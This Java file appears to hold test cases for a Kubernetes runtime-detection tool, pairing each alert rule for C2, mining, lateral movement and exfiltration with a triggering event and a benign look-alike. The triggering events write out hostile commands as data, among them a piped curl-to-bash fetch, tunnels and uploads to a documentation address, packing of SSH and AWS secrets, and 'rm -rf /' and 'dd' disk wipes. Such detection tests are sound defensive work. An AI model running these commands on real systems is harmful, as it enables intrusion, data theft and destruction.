package io.kubeguardian.rules;

import static io.kubeguardian.rules.RuleCase.ENTRYPOINT;
import static io.kubeguardian.rules.RuleCase.INTRUDER;
import static io.kubeguardian.rules.RuleCase.SERVER;
import static io.kubeguardian.rules.RuleCase.of;
import static io.kubeguardian.rules.RuleCase.scripted;
import static io.kubeguardian.rules.RuleCase.tool;
import static io.kubeguardian.rules.RuleCase.typed;
import static io.kubeguardian.rules.TestEvent.O_CREAT;
import static io.kubeguardian.rules.TestEvent.O_RDONLY;
import static io.kubeguardian.rules.TestEvent.O_WRONLY;
import static io.kubeguardian.rules.TestEvent.connect;
import static io.kubeguardian.rules.TestEvent.exec;
import static io.kubeguardian.rules.TestEvent.open;
import static io.kubeguardian.rules.TestProcess.running;

import java.util.List;
import java.util.stream.Stream;

/** c2.yaml, miners.yaml, lateral.yaml and exfiltration.yaml. Outside addresses are those of RFC 5737 and RFC 3849. */
final class NetworkRuleCases {
    private static final String OUTSIDE = "203.0.113.9";

    private NetworkRuleCases() {}

    static List<RuleCase> all() {
        return Stream.of(c2(), miners(), lateral(), exfiltration()).flatMap(List::stream).toList();
    }

    private static List<RuleCase> c2() {
        return List.of(
                of("Shell connected to an outside address", connect(INTRUDER, OUTSIDE, 443), connect(INTRUDER, "10.2.0.9",
                        5432)),
                of("Shell connected to an outside address", connect(INTRUDER, "2001:db8::9", 443), connect(INTRUDER, OUTSIDE,
                        53)),
                of("Outside connection to a port of remote shells", connect(SERVER, OUTSIDE, 4444),
                        connect(SERVER, "10.2.0.9", 4444)),
                of("Chat network contacted", connect(SERVER, OUTSIDE, 6667), connect(SERVER, OUTSIDE, 6379)),
                of("Onion network used", exec(typed("/usr/bin/curl", "-s http://abcdef.onion/x")),
                        exec(typed("/usr/bin/curl", "-s http://onion.example/x"))),
                of("Onion network used", exec(typed("/usr/bin/torsocks", "id")), exec(typed("/usr/bin/sort", "tor"))),
                of("Tunnel started in a running container", exec(typed("/opt/chisel", "client 203.0.113.9:80 R:socks")),
                        exec(running("/usr/local/bin/cloudflared", "tunnel run", null))),
                of("Tunnel started in a running container", exec(typed("/usr/bin/ssh",
                        "-N -R 8022:localhost:22 x@203.0.113.9")),
                        exec(scripted("/usr/bin/ssh", "-N backup@10.2.0.9"))),
                of("Fetched script handed to a shell", exec(typed("/bin/sh", "-c curl -fs http://203.0.113.9/a.sh | bash")),
                        exec(typed("/bin/sh", "-c curl -fs http://10.2.0.9/health | grep ok"))),
                of("Shell given a terminal by an interpreter",
                        exec(tool("/usr/bin/python3", "-c import pty;pty.spawn('/bin/bash')")),
                        exec(tool("/usr/bin/python3", "-c import os;os.getcwd()"))),
                of("Shell given a terminal by an interpreter", exec(tool("/usr/bin/script", "-qc /bin/bash /dev/null")),
                        exec(tool("/usr/bin/script", "session.log"))),
                of("Program or script fetched into a temporary place",
                        open(tool("/usr/bin/curl", "-o /tmp/a.sh x"), "/tmp/a.sh", O_WRONLY | O_CREAT),
                        open(tool("/usr/bin/curl", "-o /tmp/a.json x"), "/tmp/a.json", O_WRONLY | O_CREAT)));
    }

    private static List<RuleCase> miners() {
        return List.of(
                of("Outside connection to a port of mining pools", connect(SERVER, OUTSIDE, 3333),
                        connect(SERVER, "10.2.0.9", 3333)),
                of("Mining pool named on a command line", exec(typed("/srv/work", "-o pool.supportxmr.com:443")),
                        exec(typed("/srv/work", "-o pool.db.internal:443"))),
                of("Settings of a miner opened", open(SERVER, "/srv/.cache/xmrig.json", O_RDONLY),
                        open(SERVER, "/srv/config.json", O_RDONLY)),
                of("Processor tuned from a container", open(SERVER, "/dev/cpu/0/msr", O_WRONLY),
                        open(SERVER, "/dev/cpu/0/msr", O_RDONLY)),
                of("Processor tuned from a container", open(SERVER, "/proc/sys/vm/nr_hugepages", O_WRONLY),
                        open(running("/sbin/sysctl", "-w vm.nr_hugepages=128", null), "/proc/sys/vm/nr_hugepages", O_WRONLY)),
                of("Rival miners looked for", exec(tool("/usr/bin/pkill", "-f xmrig")), exec(tool("/usr/bin/pkill",
                        "-f worker"))));
    }

    private static List<RuleCase> lateral() {
        return List.of(
                of("Network scanner started", exec(typed("/usr/bin/nmap", "-sS 10.2.0.0/24")),
                        exec(typed("/usr/bin/dig", "peer.shop.svc"))),
                of("Network scanner started", exec(typed("/bin/nc", "-zv 10.2.0.9 1-1024")),
                        exec(typed("/bin/nc", "-zv 10.2.0.9 5432"))),
                of("Kubelet contacted from a container", connect(SERVER, "10.2.0.1", 10250),
                        connect(running("/metrics-server", "", null), "10.2.0.1", 10250)),
                of("Port of the control plane tried by a tool", connect(tool("/usr/bin/curl", "x"), "10.2.0.1", 2379),
                        connect(SERVER, "10.2.0.1", 2379)),
                of("API server asked by a tool", connect(tool("/usr/bin/curl", "-k https://10.96.0.1/api"), "10.96.0.1", 443),
                        connect(scripted("/usr/bin/curl", "-k https://10.96.0.1/readyz"), "10.96.0.1", 443)),
                of("API server asked by a tool", connect(typed("/usr/bin/wget", "x"), "10.2.0.1", 6443),
                        connect(SERVER, "10.2.0.1", 6443)),
                of("Remote login client started in a container", exec(tool("/usr/bin/ssh", "root@10.2.0.9")),
                        exec(running("/usr/bin/ssh", "git@code.example git-upload-pack",
                                running("/usr/bin/git", "fetch", SERVER)))),
                of("Unattended remote login", exec(tool("/usr/bin/sshpass", "-p x ssh root@10.2.0.9")),
                        exec(tool("/usr/bin/expect", "deploy.exp"))),
                of("Unattended remote login", exec(tool("/usr/bin/ssh", "-o StrictHostKeyChecking=no root@10.2.0.9 id")),
                        exec(running("/usr/bin/ssh", "-o StrictHostKeyChecking=no host",
                                running("/usr/bin/ansible-playbook", "site.yml", SERVER)))),
                of("Remote login port contacted by another program", connect(SERVER, "10.2.0.9", 22),
                        connect(SERVER, "127.0.0.1", 22)),
                of("Open port of a container runtime contacted", connect(SERVER, "10.2.0.9", 2375),
                        connect(SERVER, "127.0.0.1", 2375)));
    }

    private static List<RuleCase> exfiltration() {
        return List.of(
                of("File uploaded by a transfer tool", exec(tool("/usr/bin/curl", "-T dump.sql http://203.0.113.9/")),
                        exec(tool("/usr/bin/curl", "-fsS http://localhost:8080/health"))),
                of("File uploaded by a transfer tool", exec(typed("/usr/bin/wget", "--post-file=dump.sql http://203.0.113.9/")),
                        exec(scripted("/usr/bin/curl", "-F file=@report.csv http://reports.shop.svc/"))),
                of("File uploaded by a transfer tool", exec(tool("/usr/bin/curl", "-d @dump.sql http://203.0.113.9/")),
                        exec(tool("/usr/bin/wget", "-T 1 -O - http://203.0.113.9/"))),
                of("Anonymous drop site named on a command line",
                        exec(tool("/usr/bin/curl", "https://api.telegram.org/bot1:x/sendMessage")),
                        exec(tool("/usr/bin/curl", "https://api.shop.example/botany"))),
                of("Secrets packed", exec(tool("/bin/tar", "czf out.tgz /root/.ssh /root/.aws")),
                        exec(tool("/bin/tar", "czf out.tgz /var/lib/app"))),
                of("Long name looked up by a tool", exec(tool("/usr/bin/dig",
                        "a".repeat(60) + "." + "b".repeat(40) + ".x.example")),
                        exec(tool("/usr/bin/dig", "+short a-service-with-a-long-name.a-long-namespace.svc.cluster.local"))),
                of("Cloud storage or file transfer client started", exec(tool("/usr/bin/rclone", "copy /data r:x")),
                        exec(running("/usr/bin/rclone", "copy /data r:x",
                                running("/bin/sh", "-c backup", running("/usr/sbin/crond", "-f", ENTRYPOINT))))),
                of("Outside connection to a file transfer port", connect(SERVER, OUTSIDE, 21), connect(SERVER, "10.2.0.9", 21)),
                of("Database dumped from a server's shell", exec(tool("/usr/bin/pg_dump", "shop")),
                        exec(typed("/usr/bin/pg_dump", "shop"))),
                of("File system or disk destroyed", exec(typed("/bin/rm", "-rf --no-preserve-root /")),
                        exec(typed("/bin/rm", "-rf /srv/cache"))),
                of("File system or disk destroyed", exec(typed("/bin/dd", "if=/dev/zero of=/dev/sda bs=1M")),
                        exec(typed("/bin/dd", "if=/dev/zero of=/srv/swap bs=1M"))));
    }
}
